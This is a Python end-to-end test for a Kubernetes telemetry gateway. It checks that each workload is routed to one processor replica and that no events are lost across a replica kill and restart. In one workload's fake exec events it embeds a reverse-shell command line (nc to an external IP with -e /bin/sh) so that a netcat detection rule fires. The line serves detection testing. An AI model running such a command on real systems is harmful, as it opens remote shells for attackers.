"""The Kubernetes gateway routes each workload to one processor replica
(deploy/collector/gateway-k8s.yaml; docs/architecture.md#collector-topologies).

Real parts: ``otelcol-otelguard`` running backends.yaml + gateway-k8s.yaml as shipped (one
override: its ``k8s_attributes/route`` reads a kubeconfig instead of the in-cluster account),
a real kube-apiserver where the Collector acts with a ServiceAccount token bound to nothing but
the chart's ClusterRole, and two real ``otelguard processor`` replicas (falco_rules, profiles,
noise_control, incidents) on 127.0.0.2 and 127.0.0.3, behind TLS and the processor hop's token.
The headless Service is played by /etc/hosts in the Collector's own mount namespace: the
shipped ``dns`` resolver looks the name up as in a cluster and gets both addresses; taking one
out is what the Service does when a pod stops being ready.

16 Deployments with two pods each on two nodes (different container ids, pod uids and nodes:
routing by container would split about half of them), plus host processes, send logs and spans
through the agents' receiver (TLS, agent token). Each replica forwards to its own recording
receiver, so the test sees which replica processed what. Then one replica is SIGKILLed and taken
out of DNS, and later restarted on its state directory and put back.
"""

from __future__ import annotations

import os
import time
import uuid
from collections import defaultdict
from pathlib import Path
from typing import Any, Iterator

import pytest
import yaml
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
from opentelemetry.proto.collector.logs.v1.logs_service_pb2_grpc import LogsServiceStub
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2_grpc import TraceServiceStub

from otelguard import semconv as S
from otelguard.otlp.messages import PyValue, attrs_dict, iter_log_records, set_attrs
from tests.processors.k8s import objects as o
from tests.support.certs import GatewayTls
from tests.support.endpoints import free_port
from tests.support.kube import KubeCluster
from tests.support.kube_world import create_running_pod, make_namespace, next_ip
from tests.support.polling import wait_until
from tests.support.stack import BACKENDS_CONFIG, ROOT, Collector, ProcessorService
from tests.transport.receivers import GrpcReceiver

pytestmark = pytest.mark.e2e

GATEWAY_K8S = ROOT / "deploy" / "collector" / "gateway-k8s.yaml"
COLLECTOR_MANIFEST = ROOT / "deploy" / "collector.yaml"
SERVICE = "otelguard-processor.routing.test"  # the headless Service's name, in /etc/hosts
REPLICAS = ("127.0.0.2", "127.0.0.3")
WORKLOADS = 16
NODES = ("node-1", "node-2")
ATTACKED = 0  # workload whose first pod runs nc -e: Falco's netcat rule -> one incident
STAGES = """processors:
  - type: falco_rules
  - type: profiles
    config: {save_interval_seconds: 0.5}
  - type: noise_control
  - type: incidents
"""


class HostsCollector(Collector):
    """The Collector in a mount namespace of its own whose /etc/hosts is ``hosts`` (bind mount:
    rewrite the file in place, never replace it, or the mount keeps the old inode)."""

    def __init__(self, *args: Any, hosts: Path, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self.hosts = hosts

    def command(self) -> list[str]:
        return ["unshare", "--mount", "--", "sh", "-c",
                'mount --bind "$0" /etc/hosts && exec "$@"', str(self.hosts), *super().command()]


def write_hosts(path: Path, replicas: tuple[str, ...]) -> None:
    with open(path, "w") as f:  # in place: the same inode
        f.write("127.0.0.1 localhost\n" + "".join(f"{ip} {SERVICE}\n" for ip in replicas))


def router_kubeconfig(kube: KubeCluster, admin: Any) -> Path:
    """A ServiceAccount bound to the chart's collector ClusterRole only (rendered deploy/)."""
    from kubernetes import client

    docs = [d for d in yaml.safe_load_all(COLLECTOR_MANIFEST.read_text()) if d]
    (role,) = [d for d in docs if d["kind"] == "ClusterRole"]
    (binding,) = [d for d in docs if d["kind"] == "ClusterRoleBinding"]
    (account,) = [d for d in docs if d["kind"] == "ServiceAccount"]
    core, rbac = client.CoreV1Api(admin), client.RbacAuthorizationV1Api(admin)
    ns = f"og-{uuid.uuid4().hex[:6]}"
    core.create_namespace({"metadata": {"name": ns}})
    name = account["metadata"]["name"]
    core.create_namespaced_service_account(ns, {"metadata": {"name": name}})
    role_name = f"{role['metadata']['name']}-{ns}"
    rbac.create_cluster_role({"metadata": {"name": role_name}, "rules": role["rules"]})
    rbac.create_cluster_role_binding({
        "metadata": {"name": role_name},
        "roleRef": {**binding["roleRef"], "name": role_name},
        "subjects": [{"kind": "ServiceAccount", "name": name, "namespace": ns}]})
    token = core.create_namespaced_service_account_token(
        name, ns, {"spec": {"expirationSeconds": 3600}}).status.token
    return kube.kubeconfig_for_token(token, "gateway")


def make_pods(admin: Any) -> tuple[str, dict[int, list[str]]]:
    """WORKLOADS Deployments (ReplicaSet owner + pod-template-hash, as the controller makes
    them), two pods each, one per node; their uids by workload."""
    ns = make_namespace(admin)
    uids: dict[int, list[str]] = {}
    for w in range(WORKLOADS):
        rs = f"web{w}-6d4b9c7f5"
        owner = o.owner("ReplicaSet", rs, str(uuid.uuid4()))
        uids[w] = [create_running_pod(
            admin, ns, o.pod(ns, f"{rs}-{p}", owner_ref=owner, node=NODES[p],
                             labels={"app": f"web{w}", "pod-template-hash": "6d4b9c7f5"}),
            next_ip(), {"main": os.urandom(32).hex()}) for p in range(2)]
    return ns, uids


class Load:
    """Agent-shaped requests: per pod one Resource (container.id + k8s.pod.uid from the cgroup,
    node, host) with exec events and one process span; host processes of both nodes."""

    def __init__(self, uids: dict[int, list[str]]) -> None:
        self.uids = uids
        self.cids = {uid: os.urandom(32).hex() for pods in uids.values() for uid in pods}
        self.sent: set[str] = set()  # event uids

    def resource(self, uid: str | None, node: str) -> dict[str, PyValue]:
        res: dict[str, PyValue] = {S.K8S_NODE_NAME: node, S.HOST_NAME: node, S.OS_TYPE: "linux",
                                   S.STREAM: S.STREAM_EVENT}
        if uid is None:
            return {**res, S.HOST_PROCESS: True}
        return {S.CONTAINER_ID: self.cids[uid], S.K8S_POD_UID: uid, **res}

    def requests(self, round_: int) -> tuple[ExportLogsServiceRequest, ExportTraceServiceRequest]:
        logs, spans = ExportLogsServiceRequest(), ExportTraceServiceRequest()
        places: list[tuple[str | None, str]] = [
            (uid, NODES[p]) for pods in self.uids.values() for p, uid in enumerate(pods)]
        places += [(None, node) for node in NODES]
        for n, (uid, node) in enumerate(places):
            trace = uuid.uuid5(uuid.NAMESPACE_OID, f"{uid}/{node}/{round_}").bytes
            rl = logs.resource_logs.add()
            set_attrs(rl.resource.attributes, self.resource(uid, node))
            sl = rl.scope_logs.add()
            sl.scope.name = S.SCOPE_AGENT
            attacked = round_ == 0 and uid == self.uids[ATTACKED][0]
            for i in range(3):
                rec = sl.log_records.add()
                rec.event_name = S.EV_PROCESS_EXEC
                rec.time_unix_nano = rec.observed_time_unix_nano = time.time_ns()
                rec.severity_number = 9
                rec.trace_id, rec.span_id = trace, trace[:8]
                ev = f"ev-{round_}-{n}-{i}"
                nc = attacked and i == 2
                set_attrs(rec.attributes, {
                    S.LOG_RECORD_UID: ev, S.PROCESS_PID: 4000 + i, S.PROCESS_PARENT_PID: 4000,
                    S.PROCESS_EXECUTABLE_NAME: "nc" if nc else "sh",
                    S.PROCESS_EXECUTABLE_PATH: "/usr/bin/nc" if nc else "/bin/sh",
                    S.PROCESS_COMMAND_LINE: "nc 203.0.113.7 4444 -e /bin/sh" if nc
                    else f"sh -c 'worker {i}'"})
                self.sent.add(ev)
            rs = spans.resource_spans.add()
            set_attrs(rs.resource.attributes, self.resource(uid, node))
            span = rs.scope_spans.add().spans.add()
            span.trace_id, span.span_id, span.name = trace, trace[:8], "exec sh"
            span.start_time_unix_nano = span.end_time_unix_nano = rec.time_unix_nano
        return logs, spans


class Replica:
    def __init__(self, tmp: Path, ip: str, port: int, tls: GatewayTls) -> None:
        self.receiver = GrpcReceiver().start()
        tmp.mkdir(parents=True, exist_ok=True)
        config = tmp / "pipeline.yaml"
        config.write_text(f"service: {{state_dir: {tmp / 'state'}, flush_interval_seconds: 0.5}}\n"
                          + STAGES)
        self.service = ProcessorService(
            tmp, export=self.receiver.endpoint, host=ip, grpc_port=port,
            listen_tls=tls.processor_args(), extra_args=["--config", str(config)])
        self.profiles = tmp / "state" / "profiles"

    def events(self) -> dict[str, str]:
        """Event uid -> the pod uid (or host) of its Resource, for every raw event received."""
        out = {}
        with self.receiver._lock:
            requests = list(self.receiver.logs)
        for req in requests:
            for rl, _, rec in iter_log_records(req):
                if rec.event_name in (S.EV_DETECTION, S.EV_INCIDENT):
                    continue
                res, attrs = attrs_dict(rl.resource.attributes), attrs_dict(rec.attributes)
                out[str(attrs[S.LOG_RECORD_UID])] = str(res.get(S.K8S_POD_UID) or res[S.HOST_NAME])
        return out

    def resources(self) -> list[dict[str, PyValue]]:
        with self.receiver._lock:
            requests = list(self.receiver.logs)
        return [attrs_dict(rl.resource.attributes) for req in requests for rl in req.resource_logs]

    def spans(self) -> set[str]:
        with self.receiver._lock:
            requests = list(self.receiver.traces)
        return {str(attrs_dict(rs.resource.attributes).get(S.K8S_POD_UID) or "host")
                for req in requests for rs in req.resource_spans}

    def incidents(self) -> list[dict[str, PyValue]]:
        with self.receiver._lock:
            requests = list(self.receiver.logs)
        return [attrs_dict(rec.attributes) for req in requests
                for _, _, rec in iter_log_records(req) if rec.event_name == S.EV_INCIDENT]

    def profile_docs(self) -> list[dict[str, Any]]:
        return [yaml.safe_load(p.read_text()) for p in sorted(self.profiles.glob("*.yaml"))]


@pytest.fixture
def routed(tmp_path: Path, kube: KubeCluster, admin: Any
           ) -> Iterator[tuple[HostsCollector, list[Replica], Load, Path, str]]:
    tls = GatewayTls.create(tmp_path / "pki")
    kubeconfig = router_kubeconfig(kube, admin)
    ns, uids = make_pods(admin)
    port = free_port()
    replicas = [Replica(tmp_path / f"replica{i}", ip, port, tls) for i, ip in enumerate(REPLICAS)]
    hosts = tmp_path / "hosts"
    write_hosts(hosts, REPLICAS)
    override = tmp_path / "in-test.yaml"
    override.write_text("processors:\n  k8s_attributes/route:\n    auth_type: kubeConfig\n")
    col = HostsCollector(tmp_path / "otelcol", [BACKENDS_CONFIG, GATEWAY_K8S, override], {
        "KUBECONFIG": str(kubeconfig), "OTELGUARD_PROCESSOR_HEADLESS_SERVICE": SERVICE,
        "OTELGUARD_PROCESSOR_PORT": str(port), "OTELGUARD_PROCESSOR_TLS_SERVER_NAME": "localhost",
    }, tap=False, tls=tls, hosts=hosts)
    try:
        for r in replicas:
            r.service.start()
        col.start()
        yield col, replicas, Load(uids), hosts, ns
    finally:
        col.stop()
        for r in replicas:
            r.service.stop()
            r.receiver.stop()


def send(col: Collector, load: Load, round_: int) -> None:
    logs, spans = load.requests(round_)
    assert col.tls is not None
    ch, metadata = col.tls.agent_channel(col.agents_grpc)
    with ch:
        LogsServiceStub(ch).Export(logs, timeout=30, metadata=metadata)  # type: ignore[no-untyped-call]
        TraceServiceStub(ch).Export(spans, timeout=30, metadata=metadata)  # type: ignore[no-untyped-call]


def placement(replicas: list[Replica], load: Load, events: set[str]) -> dict[str, set[int]]:
    """Workload (or host) -> the replicas that processed any of ``events`` from it."""
    by_pod = {uid: f"web{w}" for w, pods in load.uids.items() for uid in pods}
    out: dict[str, set[int]] = defaultdict(set)
    for i, r in enumerate(replicas):
        for ev, pod in r.events().items():
            if ev in events:
                out[by_pod.get(pod, f"host/{pod}")].add(i)
    return out


def round_events(load: Load, round_: int) -> set[str]:
    return {ev for ev in load.sent if ev.startswith(f"ev-{round_}-")}


def received(replicas: list[Replica]) -> set[str]:
    return {ev for r in replicas for ev in r.events()}


def test_each_workload_meets_one_replica_and_nothing_is_lost_when_one_goes(
        routed: tuple[HostsCollector, list[Replica], Load, Path, str]) -> None:
    col, replicas, load, hosts, ns = routed
    # The pod watch syncs after the Collector is ready (wait_for_metadata: false); until then
    # records route by pod uid. Probe with workload 0 until its owner comes out.
    probe = Load({0: load.uids[0]})
    probe.cids = load.cids
    for attempt in range(30):
        send(col, probe, 1000 + attempt)
        if wait_until(lambda: any(res.get(S.K8S_DEPLOYMENT_NAME) == "web0"
                                  for r in replicas for res in r.resources()), 5, 0.2):
            break
    else:
        pytest.fail("the gateway never added the pod's owner: " + col.log_tail())

    send(col, load, 0)
    round0 = round_events(load, 0)
    assert wait_until(lambda: round0 <= received(replicas), 30, 0.2), col.log_tail()
    where = placement(replicas, load, round0)
    assert len(where) == WORKLOADS + len(NODES)
    split = {w: r for w, r in where.items() if len(r) != 1}
    assert not split, f"workloads on several replicas: {split}"
    assert {i for r in where.values() for i in r} == {0, 1}, "one replica took everything"
    for w, pods in load.uids.items():  # spans went where the workload's logs went
        (home,) = where[f"web{w}"]
        assert set(pods) <= replicas[home].spans() and not set(pods) & replicas[1 - home].spans()

    (home,) = where[f"web{ATTACKED}"]
    attacked = replicas[home]
    assert wait_until(lambda: attacked.incidents(), 20, 0.2), "no incident"
    assert {i[S.INCIDENT_ID] for i in attacked.incidents()} == {
        i[S.INCIDENT_ID] for r in replicas for i in r.incidents()}
    assert len({i[S.INCIDENT_ID] for i in attacked.incidents()}) == 1
    assert attacked.incidents()[0][S.INCIDENT_WORKLOAD] == f"k8s/{ns}/Deployment/web{ATTACKED}/"

    def profiles() -> dict[str, list[tuple[int, dict[str, Any]]]]:
        out: dict[str, list[tuple[int, dict[str, Any]]]] = defaultdict(list)
        for i, r in enumerate(replicas):
            for doc in r.profile_docs():
                out[doc["metadata"]["workload"]].append((i, doc))
        return out
    expected = {f"k8s/{ns}/Deployment/web{w}/" for w in range(WORKLOADS)}
    assert wait_until(lambda: expected <= set(profiles()), 20, 0.5), sorted(profiles())
    for w in range(WORKLOADS):
        ((i, doc),) = profiles()[f"k8s/{ns}/Deployment/web{w}/"]  # one profile, one replica
        assert {i} == where[f"web{w}"]
        assert sorted(doc["status"]["learning"]["instances"]) == sorted(load.uids[w])

    # Replica 1 dies (SIGKILL); records for its workloads wait and retry. Then the Service
    # drops it (not ready): they move to replica 0. Nothing sent is lost.
    replicas[1].service.kill()
    before = set(load.sent)
    send(col, load, 1)
    write_hosts(hosts, REPLICAS[:1])
    round1 = set(load.sent) - before
    assert wait_until(lambda: round1 <= set(replicas[0].events()), 60, 0.5), (
        f"{len(round1 - received(replicas))} of {len(round1)} records missing; "
        + col.log_tail())

    # It comes back on its state directory and into the Service: its workloads move back (the
    # same ring as at first).
    replicas[1].service.start()
    write_hosts(hosts, REPLICAS)
    for round_ in range(2, 22):
        send(col, load, round_)
        wanted = round_events(load, round_)
        assert wait_until(lambda: wanted <= received(replicas), 60, 0.5), col.log_tail()
        if placement(replicas, load, wanted) == where:
            break
    else:
        pytest.fail("the restarted replica never got its workloads back")
    assert load.sent <= received(replicas)  # every record sent arrived somewhere
    print(f"\n{len(load.sent)} events in {round_ + 1} rounds; placement "
          f"{sorted(len([w for w in where.values() if w == {i}]) for i in (0, 1))}")
